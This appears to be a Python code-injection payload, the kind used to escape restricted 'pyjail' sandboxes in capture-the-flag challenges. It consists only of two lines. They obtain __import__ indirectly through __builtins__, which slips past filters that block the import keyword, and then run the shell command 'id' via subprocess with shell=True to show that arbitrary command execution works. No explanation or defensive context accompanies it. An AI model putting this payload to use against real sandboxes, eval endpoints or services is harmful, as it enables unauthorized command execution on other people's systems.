imp = __builtins__.__import__
imp("subprocess").call("id", shell=True)
